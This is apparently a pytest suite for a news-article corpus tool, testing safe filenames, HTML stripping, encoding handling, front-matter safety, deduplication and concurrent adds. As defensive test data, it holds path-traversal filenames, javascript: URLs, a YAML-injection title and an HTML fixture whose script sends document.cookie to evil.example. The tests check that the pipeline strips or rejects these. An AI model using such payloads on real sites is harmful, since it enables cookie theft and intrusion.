"""Adding articles: bad input, safe names, duplicates, concurrent sessions."""
from __future__ import annotations

import multiprocessing
import threading
from pathlib import Path

import pytest
import yaml

from pipeline import config
from pipeline.text.frontmatter import split_front_matter
from pipeline.text.slug import SLUG_MAX, slugify
from pipeline import corpus as cp

ARTICLE = ("Russians flee to Kazakhstan\n\n"
           "Thousands of Russians crossed from Samara into Kazakhstan on 27 September 2022, "
           "officials in Uralsk said. Many drove through the night to reach the border, where "
           "queues stretched for kilometres. Others flew from Moscow to Yerevan and Tbilisi.\n")
OTHER = ("Quiet week at the harbour\n\n"
         "Fishing boats stayed in port all week because of the storm, and the market sold "
         "mostly frozen fish. The harbour master expects calmer weather by the weekend.\n")


def clock() -> str:
    return "2024-01-01T00:00:00+00:00"


@pytest.fixture
def articles(tmp_path) -> Path:
    d = tmp_path / "data" / "articles"
    d.mkdir(parents=True)
    (d / "existing.txt").write_text(OTHER, encoding="utf-8")
    return d


def read_front_matter(path: Path) -> tuple[dict, str]:
    fm = split_front_matter(path.read_text(encoding="utf-8"))
    return fm.meta, fm.body


@pytest.mark.parametrize("name", [
    pytest.param("../../etc/x.txt", id="posix_traversal"),
    pytest.param("..\\..\\Windows\\x.txt", id="windows_traversal"),
    pytest.param("/etc/passwd.txt", id="absolute"),
    pytest.param("a/b/../../../c.md", id="nested_traversal"),
    pytest.param("CON.txt", id="windows_device"),
    pytest.param(".hidden.txt", id="hidden"),
    pytest.param("ro\x00ot.txt", id="nul_in_name"),
    pytest.param("", id="no_name"),
])
def test_upload_name_never_becomes_a_path(tmp_path, articles, name):
    text = "Nothing to see.\n\nA plain story about a walk from the station to the river."
    (result,) = cp.add_uploads([(name, text.encode())], articles)
    assert result.status == "added", result.message
    path = Path(result.path)
    assert path.parent == articles and path.suffix == ".md"
    assert all(c.isascii() and (c.isalnum() or c == "-") for c in path.stem) and path.stem.islower()
    outside = sorted(p for p in tmp_path.rglob("*") if p.is_file() and articles not in p.parents
                     and ".locks" not in p.parts)
    assert outside == []


@pytest.mark.parametrize("text, expected", [
    pytest.param("Russians flee to Kazakhstan", "russians-flee-to-kazakhstan", id="plain"),
    pytest.param("Россияне бегут в Казахстан", "rossiiane-begut-v-kazakhstan", id="cyrillic"),
    pytest.param("../../etc/passwd", "etc-passwd", id="traversal"),
    pytest.param("Über Åland — «news»!", "uber-aland-news", id="accents_and_punctuation"),
    pytest.param("con", "con-article", id="reserved"),
    pytest.param("!!!", "", id="nothing_left"),
])
def test_slugify(text, expected):
    assert slugify(text) == expected


def test_slug_is_capped_at_a_word_boundary():
    slug = slugify("word " * 40)
    assert len(slug) <= SLUG_MAX and not slug.endswith("-") and slug.endswith("word")


def test_title_collision_gets_a_suffix(articles):
    first = cp.add_text(ARTICLE, articles, title="Russians flee to Kazakhstan")
    second = cp.add_text("A different story: students moved from Kazan to Riga to study.", articles,
                         title="Russians flee to Kazakhstan")
    assert (first.article_id, second.article_id) == ("russians-flee-to-kazakhstan", "russians-flee-to-kazakhstan-2")
    assert read_front_matter(Path(first.path))[1].strip() == ARTICLE.strip()


def test_choose_article_id_counts_up():
    sub = cp.Submission("x", title="Same")
    assert cp.choose_article_id(sub, {"same", "same-2"}) == "same-3"
    assert cp.choose_article_id(cp.Submission("x", source_name="../My File.txt"), set()) == "my-file"
    assert cp.choose_article_id(cp.Submission("x"), set()) == "article"


def test_fifty_megabyte_upload_is_rejected(articles):
    big = b"a" * (50 * 1024 * 1024)
    (result,) = cp.add_uploads([("big.txt", big)], articles)
    assert result.status == "rejected"
    assert "50.0 MB" in result.message and f"limit is {cp.MAX_ARTICLE_MB} MB" in result.message
    assert sorted(p.name for p in articles.iterdir()) == ["existing.txt"]


def test_fifty_megabyte_file_is_rejected_before_reading(tmp_path, articles):
    big = tmp_path / "big.txt"
    with big.open("wb") as fh:  # sparse: the size is what is checked
        fh.truncate(50 * 1024 * 1024)
    ((source, err),) = cp.submissions_from_path(big)
    assert isinstance(err, cp.CorpusError) and "limit is 5 MB" in str(err)


@pytest.mark.parametrize("data, name, match", [
    pytest.param(b"", "empty.txt", "empty", id="empty"),
    pytest.param(b"  \n\t\r\n ", "blank.txt", "empty", id="whitespace_only"),
    pytest.param(b"\x00\x01\x02\x03hello\x00" * 50, "data.txt", "binary data", id="nul_bytes"),
    pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "story.txt", "a PDF", id="pdf"),
    pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "photo.md", "a PNG image", id="png"),
    pytest.param(b"hello", "story.docx", "unsupported file type '.docx'", id="wrong_type"),
    pytest.param(b"---\ntitle: x\n---\n\n", "only-front-matter.md", "no text", id="front_matter_only"),
    pytest.param(b"<html><body><script>alert(1)</script></body></html>", "x.html", "no article text",
                 id="html_without_text"),
])
def test_bad_uploads_get_a_clear_message_and_change_nothing(articles, data, name, match):
    before = {p.name: p.read_bytes() for p in articles.iterdir()}
    (result,) = cp.add_uploads([(name, data)], articles)
    assert result.status == "rejected" and match in result.message
    assert {p.name: p.read_bytes() for p in articles.iterdir()} == before


@pytest.mark.parametrize("text, encoding", [
    pytest.param("Тысячи россиян уехали из Москвы в Ереван, Тбилиси и Алматы в сентябре.", "cp1251",
                 id="windows_1251"),
    pytest.param("Des milliers de Russes sont arrivés à Almaty ; Müller a dit « déjà ».", "latin-1",
                 id="latin_1"),
    pytest.param("Les réfugiés ont traversé la frontière à Verkhny Lars – dit-on.", "cp1252", id="windows_1252"),
    pytest.param("Тысячи россиян уехали — «в Ереван».", "utf-8", id="utf8"),
    pytest.param("Тысячи россиян уехали в Ереван.", "utf-16", id="utf16_bom"),
])
def test_legacy_encodings_are_decoded_and_saved_as_utf8(articles, text, encoding):
    (result,) = cp.add_uploads([("story.txt", text.encode(encoding))], articles)
    assert result.status == "added", result.message
    meta, body = read_front_matter(Path(result.path))
    assert body.strip() == text


HTML = """<!doctype html><html><head><title>Russians flee to Kazakhstan | Example News</title>
<meta property="og:title" content="Russians flee to Kazakhstan">
<meta property="og:site_name" content="Example News">
<meta property="article:published_time" content="2022-09-27T10:00:00Z">
<link rel="canonical" href="https://example.org/news/russians-flee">
<script>alert('x'); document.write('EVIL SCRIPT TEXT')</script></head>
<body><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article><h1>Russians flee to Kazakhstan</h1>
<p>Thousands of Russians crossed from Samara into Kazakhstan on 27 September 2022, officials in Uralsk said.</p>
<script>var stolen = document.cookie; fetch('https://evil.example/?' + stolen);</script>
<p>Others flew from Moscow to Yerevan and Tbilisi, paying <b>high</b> prices for tickets.</p>
<img src=x onerror="alert(2)"></article></body></html>"""


def test_html_page_becomes_text_only_with_metadata(articles):
    (result,) = cp.add_uploads([("page.html", HTML.encode())], articles)
    assert result.status == "added", result.message
    raw = Path(result.path).read_text()
    fm = split_front_matter(raw)
    meta, body = fm.meta, fm.body
    for bad in ("<script", "alert", "document.cookie", "evil.example", "onerror", "<p>", "<b>"):
        assert bad not in raw
    assert "crossed from Samara into Kazakhstan" in body and "paying high prices" in body
    assert meta["title"] == "Russians flee to Kazakhstan" and meta["outlet"] == "Example News"
    assert meta["url"] == "https://example.org/news/russians-flee" and meta["published"] == "2022-09-27"
    assert meta["source_name"] == "page.html"


def test_html_is_sniffed_even_with_a_txt_name():
    sub = cp.submission_from_bytes(HTML.encode(), "saved.txt")
    assert "<" not in sub.text and sub.title == "Russians flee to Kazakhstan"


def test_pasted_text_with_fields_and_front_matter_is_safe_yaml(articles):
    evil_title = "Title\n---\nurl: javascript:alert(1)\n"
    result = cp.add_text(ARTICLE, articles, title=evil_title, outlet="OC Media",
                         url="https://oc-media.org/x", published="27 September 2022")
    assert result.status == "added"
    meta, body = read_front_matter(Path(result.path))
    assert meta["title"] == "Title --- url: javascript:alert(1)"
    assert meta["url"] == "https://oc-media.org/x" and meta["published"] == "2022-09-27"
    assert meta["added"] and body.strip() == ARTICLE.strip()


@pytest.mark.parametrize("fields, match", [
    pytest.param({"url": "javascript:alert(1)"}, "not an http", id="javascript_url"),
    pytest.param({"url": "ftp://example.org/x"}, "not an http", id="ftp_url"),
    pytest.param({"published": "someday soon"}, "not a date", id="bad_date"),
])
def test_bad_fields_are_rejected(articles, fields, match):
    result = cp.add_text(ARTICLE, articles, **fields)
    assert result.status == "rejected" and match in result.message


@pytest.mark.parametrize("value, expected", [
    pytest.param("2022-09-07", "2022-09-07", id="iso_not_read_dayfirst"),
    pytest.param("2022-09-27T10:00:00Z", "2022-09-27", id="iso_datetime"),
    pytest.param("27 September 2022", "2022-09-27", id="words"),
    pytest.param("07/09/2022", "2022-09-07", id="day_first"),
    pytest.param("", None, id="empty"),
])
def test_normalise_date(value, expected):
    assert cp.normalise_date(value) == expected


def test_uploaded_markdown_keeps_its_front_matter(articles):
    md = "---\ntitle: From the file\noutlet: RFE/RL\npublished: 2022-10-01\n---\n\nBody about Almaty and Bishkek.\n"
    (result,) = cp.add_uploads([("x.md", md.encode())], articles, outlet="Override")
    meta, body = read_front_matter(Path(result.path))
    assert (meta["title"], meta["outlet"], meta["published"]) == ("From the file", "Override", "2022-10-01")
    assert body.strip() == "Body about Almaty and Bishkek."


def test_same_upload_twice_is_reported_not_added(articles):
    first = cp.add_uploads([("a.txt", ARTICLE.encode())], articles)[0]
    again = cp.add_uploads([("copy of a.txt", ARTICLE.replace("\n", "\r\n").encode())], articles)[0]
    assert first.status == "added"
    assert again.status == "duplicate" and again.duplicate_of == first.article_id
    assert "already in the corpus" in again.message
    assert len(list(articles.glob("*.md"))) == 1


def test_near_duplicate_is_reported_not_added(articles):
    cp.add_text(ARTICLE, articles)
    truncated = ARTICLE[: int(len(ARTICLE) * 0.9)]
    result = cp.add_text(truncated + " Updated.", articles, title="Same story, other outlet")
    assert result.status == "duplicate", result.message


def test_duplicate_within_one_batch(articles):
    results = cp.add_uploads([("a.txt", ARTICLE.encode()), ("b.txt", ARTICLE.encode())], articles)
    assert [r.status for r in results] == ["added", "duplicate"]


def test_folder_add_reports_each_file_and_keeps_going(tmp_path, articles):
    src = tmp_path / "incoming"
    src.mkdir()
    (src / "good.txt").write_text(ARTICLE.replace("Samara", "Saratov"))
    (src / "empty.txt").write_bytes(b"")
    (src / "page.html").write_text(HTML)
    (src / "again.md").write_text(ARTICLE)  # same text as good.txt
    (src / "notes.docx").write_bytes(b"PK\x03\x04")  # ignored: not an article type
    results = cp.add_submissions(cp.submissions_from_path(src), articles, clock)
    by_name = {Path(r.source).name: r.status for r in results}
    assert by_name == {"again.md": "added", "empty.txt": "rejected", "good.txt": "duplicate", "page.html": "added"}
    assert (articles / "existing.txt").read_text() == OTHER


@pytest.mark.parametrize("path, meta, match", [
    pytest.param("missing.txt", {}, "does not exist", id="missing"),
    pytest.param(".", {"title": "x"}, "single file", id="metadata_for_folder"),
])
def test_path_errors(tmp_path, path, meta, match):
    (tmp_path / "a.txt").write_text("x")
    with pytest.raises(cp.CorpusError, match=match):
        cp.submissions_from_path(tmp_path / path, **meta)


def _add_many(articles: str, worker: int, n: int) -> None:
    for i in range(n):
        text = f"Report {worker}-{i}: a family moved from town number {worker * 100 + i} to the coast " \
               f"after the floods; {'x' * worker} {i * 7919} unique words {worker}{i}{worker}."
        cp.add_text(text, articles, title="Same headline")


def test_concurrent_adds_from_two_processes_lose_nothing(articles):
    ctx = multiprocessing.get_context("fork")
    procs = [ctx.Process(target=_add_many, args=(str(articles), w, 6)) for w in (1, 2)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(30)
    assert [p.exitcode for p in procs] == [0, 0]
    files = sorted(articles.glob("same-headline*.md"))
    assert len(files) == 12
    bodies = {read_front_matter(f)[1].strip()[:12] for f in files}
    assert len(bodies) == 12


def test_concurrent_adds_from_threads_lose_nothing(articles):
    threads = [threading.Thread(target=_add_many, args=(str(articles), w, 5)) for w in (3, 4, 5)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(list(articles.glob("same-headline*.md"))) == 15


def test_render_markdown_round_trips():
    sub = cp.Submission("Body: with colon\n\n---\nnot front matter", title="A: b", outlet="O'Reilly",
                        url="https://x.org/a?b=1", published="2022-09-27", source_name="../x.txt")
    fm = split_front_matter(cp.render_markdown(sub, clock()))
    meta, body = fm.meta, fm.body
    assert meta == {"title": "A: b", "outlet": "O'Reilly", "url": "https://x.org/a?b=1",
                    "published": "2022-09-27", "added": clock(), "source_name": "../x.txt"}
    assert body.strip() == sub.text
    assert yaml.safe_load(cp.render_markdown(sub, clock()).split("---")[1])["title"] == "A: b"


def test_articles_without_places():
    assert cp.articles_without_places(["a", "b", "c"], [["a"], ["x", "c"], None]) == ["b"]


def tiny_names():
    from pipeline.devtools.synthcorpus import City, Names
    cities = {"AA": (City("Alphaville", "AA"), City("Amberton", "AA")),
              "BB": (City("Betaburg", "BB"),), "CC": (City("Cetown", "CC"),)}
    return Names(cities, {"AA": "Aland", "BB": "Bland", "CC": "Cland"},
                 {"AA": ("BB",), "BB": ("AA", "CC"), "CC": ("BB",)})


def test_synthetic_corpus_is_seeded_and_names_gazetteer_places(tmp_path):
    from pipeline.devtools import synthcorpus as sc
    a = sc.generate_corpus(20, seed=3, names=tiny_names())
    assert a == sc.generate_corpus(20, seed=3, names=tiny_names())
    assert a != sc.generate_corpus(20, seed=4, names=tiny_names())
    assert len({x.article_id for x in a}) == 20
    text = " ".join(x.text for x in a)
    assert {"Alphaville", "Betaburg", "Bland"} <= set(text.replace(",", " ").replace(".", " ").split())
    paths = sc.write_corpus(a[:3], tmp_path / "synth")
    meta, body = read_front_matter(paths[0])
    assert meta["title"] == a[0].title and body.strip() == a[0].text


@pytest.mark.parametrize("existing, expected", [
    pytest.param(ARTICLE, True, id="same_text"),
    pytest.param(ARTICLE.upper().replace(",", " ;"), True, id="case_and_punctuation"),
    pytest.param(OTHER, False, id="other_text"),
    pytest.param(ARTICLE[: len(ARTICLE) // 3], False, id="holds_a_third"),
])
def test_duplicate_prefilter(existing, expected):
    from pipeline.dedup import shingles
    assert cp.may_contain(sorted(shingles(ARTICLE)), cp.corpus_text(existing)) is expected


def test_corpus_cache_sees_edited_files(articles):
    assert cp.read_corpus(articles)["existing"].body.startswith("Quiet week")
    (articles / "existing.txt").write_text("Rewritten entirely: a story about trains.")
    assert cp.read_corpus(articles)["existing"].body.startswith("Rewritten")


def test_two_sessions_add_and_rebuild_at_once(articles, tiny_gazetteer):
    """Each session adds an article and rebuilds; builds take turns and the last has both."""
    paths = config.data_paths(articles.parent)
    texts = ["Ivan drove from Moscow to Oral by car in September.",
             "Later, 300 men flew from Saratov to Tbilisi, officials said."]
    errors = []

    def session(text: str) -> None:
        try:
            assert cp.add_text(text, articles).status == "added"
            cp.rebuild(paths, lambda *a: None, gazetteer=tiny_gazetteer, use_cache=False)
        except Exception as exc:  # surfaced by the assertion below
            errors.append(exc)

    threads = [threading.Thread(target=session, args=(t,)) for t in texts]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    import json
    built = {a["article_id"] for a in json.loads((paths.build / "articles.json").read_text())}
    assert len(built) == 3 and "existing" in built
